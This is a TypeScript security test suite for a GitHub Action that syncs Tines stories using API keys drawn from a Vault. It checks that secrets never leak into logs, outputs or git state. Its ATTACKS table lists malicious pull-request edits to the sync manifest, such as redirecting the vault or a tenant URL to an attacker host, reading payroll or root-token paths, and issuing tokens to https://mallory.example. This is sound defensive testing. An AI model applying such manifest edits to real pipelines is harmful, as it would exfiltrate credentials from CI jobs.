import { execFileSync } from 'node:child_process';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ActionRig, type ActionRun } from '../support/action-rig.ts';
import { AttackerHost } from '../support/attacker-host.ts';
import { KEYS, type VaultedWorld, vaultedWorld } from '../support/vault/vaulted-world.ts';

type Vaulted = VaultedWorld & { readonly action: ActionRig };

async function open(): Promise<Vaulted> {
  const world = await vaultedWorld();
  return { ...world, action: await ActionRig.around(Promise.resolve(world.rig)) };
}

async function close({ action, close: end }: Vaulted): Promise<void> {
  await end();
  await action[Symbol.asyncDispose]();
}

/** Every object of the repository, unpacked: state and leases are branches of it. */
function everythingInGit({ rig }: VaultedWorld): string {
  const args = ['cat-file', '--batch-all-objects', '--batch', '--unordered'];
  return execFileSync('git', args, { cwd: rig.dir, encoding: 'latin1', maxBuffer: 1 << 28 });
}

describe('keys from a vault in a job', () => {
  let world: Vaulted;
  beforeEach(async () => {
    world = await open();
  });
  afterEach(() => close(world));

  /** All that must be nowhere: keys, the vault's tokens, and what a job logs in with. */
  function expectNoSecret({ action, vault, job, ...rest }: Vaulted, run: ActionRun): void {
    const { log, stderr, outputs, summary, files } = run;
    const said =
      JSON.stringify({ log, stderr, outputs, summary, files }) +
      action.everythingOnGitHub() +
      everythingInGit({ action, vault, job, ...rest } as Vaulted);
    expect(said.length).toBeGreaterThan(1_000);
    const secrets = [...Object.values(KEYS), ...vault.given, ...job.made, job.bearer];
    expect(secrets.filter((secret) => said.includes(secret))).toEqual([]);
    // Whatever was used was hidden first.
    expect(run.masks).toEqual(expect.arrayContaining([...vault.given.slice(-1), ...job.made.slice(-1), job.bearer]));
  }

  it('sync a merge with no secret of GitHub’s, and stand in no log, check, comment, output, file or state', async () => {
    const { action, rig, vault, job } = world;
    const base = action.head();
    const run = await action.run(action.push(), { env: job.environment });
    expect(run).toMatchObject({ code: 0, outputs: { synced: '4' } });
    expect(run.masks).toEqual(expect.arrayContaining(Object.values(KEYS)));
    expectNoSecret(world, run);
    rig.write('stories/enrich.json', rig.read('stories/enrich.json').replace('Look up', 'Look it up'));
    action.merge();
    for (const event of [action.pullRequest(base), action.event('schedule')]) {
      const planned = await action.run(event, { env: job.environment });
      expect(planned.code).toBe(0);
      expectNoSecret(world, planned);
    }
    expect(await vault.valid()).toBe(0);
  });

  it('stand nowhere either when a vault echoes all that it was sent and knows', async () => {
    const { action, vault, job } = world;
    for (const status of [400, 404, 500, 200]) {
      vault.instead = (what) => {
        const echo = `${job.made.at(-1)} ${KEYS.contoso} canary-of-the-vault`;
        return what.includes('login') ? undefined : [status, { errors: [echo], data: echo }];
      };
      const run = await action.run(action.push(), { env: job.environment });
      expect(run).toMatchObject({ code: 1, outputs: { synced: '0' } });
      expectNoSecret(world, run);
      expect(JSON.stringify(run) + action.everythingOnGitHub()).not.toContain('canary-of-the-vault');
    }
  });

  it('that are missing are named with their lines, and not as if a variable could help', async () => {
    const { action, vault, job } = world;
    await vault.remove('tines/contoso/contoso');
    const run = await action.run(action.push(), { env: job.environment });
    expect(run).toMatchObject({ code: 1, outputs: { synced: '2', failed: '2' } });
    expect(run.log).toContain(
      'One API key is not to be had from the vault; the lines of the manifest say why:%0A  vault:tines/contoso/contoso#api_key: sync.yaml:',
    );
    expect(run.log).not.toContain('env-keys');
  });

  it('of a fork are not asked for, whatever the job has', async () => {
    const { action, vault, job } = world;
    const run = await action.run(action.pullRequest(action.head(), 'mallory/stories'), { env: job.environment });
    expect(run.code).toBe(0);
    expect([vault.asked, job.asked]).toEqual([[], []]);
  });

  it('come with a token that the job was given, which is hidden and stays valid', async () => {
    const { action, vault } = world;
    const token = await vault.token(['tines/*']);
    const run = await action.run(action.push(), { env: { STORYSYNC_VAULT_TOKEN: token } });
    expect(run).toMatchObject({ code: 0, outputs: { synced: '4' } });
    expect(run.masks).toContain(token);
    expect(vault.tokens.has(token)).toBe(true);
  });
});

type Attack = (manifest: string, attacker: number) => string;
const renamed = (text: string, from: string, to: string): string => text.replace(`\n  ${from}:\n`, `\n  ${to}:\n`);
const labelled = (text: string, from: string, to: string): string =>
  text.replace(`customer: ${from} `, `customer: ${to} `);

/** What a pull request can write to get at a token or a key; and who is still asked. */
const ATTACKS: { readonly [name: string]: readonly [attack: Attack, keys: readonly string[]] } = {
  'moves the vault to another host': [
    (text, port) => text.replace(/address: .*/, `address: http://127.0.0.1:${port}`),
    [],
  ],
  'moves the vault below another path': [(text) => text.replace(/(address: .*)/, '$1/proxy'), []],
  'reads another mount': [(text) => text.replace('    role:', '    mount: other\n    role:'), []],
  'reads another namespace': [(text) => text.replace('    role:', '    namespace: soc\n    role:'), []],
  'reads another path': [(text) => text.replace('vault:tines/', 'vault:payroll/'), []],
  'reads another field': [(text) => text.replace('#api_key', '#root_token'), []],
  'renames a destination to another customer’s': [
    (text) => renamed(renamed(labelled(text, 'contoso', 'fabrikam'), 'fabrikam', 'other'), 'contoso', 'fabrikam'),
    [],
  ],
  'renames a destination': [(text) => renamed(text, 'contoso', 'contoso2'), ['fabrikam/fabrikam']],
  'sets a label': [(text) => labelled(text, 'contoso', 'fabrikam'), ['fabrikam/fabrikam']],
  'names another customer’s path at a destination': [
    (text) =>
      text.replace(
        '    labels: { customer: contoso',
        '    destination_tenant_api_key: ${vault:tines/fabrikam/fabrikam#api_key}\n    labels: { customer: contoso',
      ),
    ['fabrikam/fabrikam'],
  ],
  'swaps the tenants of two destinations': [
    (text) => text.replace('/contoso\n', '/x\n').replace('/fabrikam\n', '/contoso\n').replace('/x\n', '/fabrikam\n'),
    [],
  ],
  'sends a key to a host of its own': [
    (text, port) => text.replace(/(contoso:\n\s+destination_tenant_url: ).*/, `$1http://127.0.0.1:${port}/contoso`),
    ['fabrikam/fabrikam'],
  ],
  'asks for another team': [(text) => text.replace('team_id: 42', 'team_id: 43'), ['fabrikam/fabrikam']],
  'puts a variable in the place of a key': [
    (text) =>
      text.replace(
        '    labels: { customer: contoso',
        '    destination_tenant_api_key: ${FABRIKAM_KEY}\n    labels: { customer: contoso',
      ),
    ['fabrikam/fabrikam'],
  ],
  'takes the role that writes': [
    (text) => text.replace('plan: plan', 'plan: sync'),
    ['contoso/contoso', 'fabrikam/fabrikam'],
  ],
  'has the token made out to somebody else': [
    (text) => text.replace(/audience: .*/, 'audience: https://mallory.example'),
    ['contoso/contoso', 'fabrikam/fabrikam'],
  ],
  'logs in elsewhere in the vault': [
    (text) => text.replace('    role:', '    auth_mount: mallory\n    role:'),
    ['contoso/contoso', 'fabrikam/fabrikam'],
  ],
};

describe('a pull request that', () => {
  let world: Vaulted;
  let attacker: AttackerHost;
  let base = '';
  beforeAll(async () => {
    world = await open();
    attacker = await AttackerHost.start();
    base = world.action.head();
    const { vault } = world;
    await vault.put('payroll/contoso/contoso', { api_key: 'payroll-secret' });
  });
  afterAll(async () => {
    await attacker[Symbol.asyncDispose]();
    await close(world);
  });

  async function proposed(attack: Attack, event: (action: ActionRig) => ReturnType<ActionRig['push']>) {
    const { action, rig, vault, job } = world;
    rig.git('checkout', '--quiet', '--detach', base);
    const manifest = rig.read('sync.yaml');
    const changed = attack(manifest, attacker.port);
    expect(changed).not.toBe(manifest);
    rig.write('sync.yaml', changed);
    rig.commit('attack');
    vault.asked.length = 0;
    vault.logins.length = 0;
    job.asked.length = 0;
    await rig.control('DELETE', 'log');
    const run = await action.run(event(action), { env: job.environment, inputs: { command: 'plan' } });
    const tenants = [...new Set((await rig.log()).map(({ tenant }) => tenant))];
    return { run, tenants };
  }

  it.each(Object.entries(ATTACKS))('%s gets no token and no key by it', async (_, [attack, keys]) => {
    const { vault, job } = world;
    for (const event of [
      (action: ActionRig) => action.pullRequest(base),
      (action: ActionRig) => action.push('refs/heads/x'),
    ]) {
      const { run, tenants } = await proposed(attack, event);
      expect(run.code).toBe(0);
      expect(attacker.seen).toEqual([]);
      const read = vault.asked.map(({ what }) => what).filter((what) => what.startsWith('GET'));
      expect(read.toSorted()).toEqual(keys.map((path) => `GET secret/data/tines/${path}`));
      expect(tenants.toSorted()).toEqual(keys.map((path) => path.split('/')[0]));
      // Who logs in is the role for reading, and the token is for whom the default branch says.
      expect(job.asked).toEqual(keys.length === 0 ? [] : ['https://vault.example']);
      expect(vault.logins).toEqual(keys.length === 0 ? [] : ['plan']);
      if (keys.length < 2) expect(run.summary).toContain('**Planned offline:**');
    }
  });

  it('does the same once it is merged gets there: the tests above could fail', async () => {
    const { action, rig } = world;
    rig.git('checkout', '--quiet', '--detach', base);
    const [attack] = ATTACKS['moves the vault to another host'] ?? [];
    rig.write('sync.yaml', attack?.(rig.read('sync.yaml'), attacker.port) ?? '');
    action.merge();
    await action.run(action.push(), { env: world.job.environment, inputs: { command: 'plan' } });
    expect(attacker.seen).not.toEqual([]);
  });
});
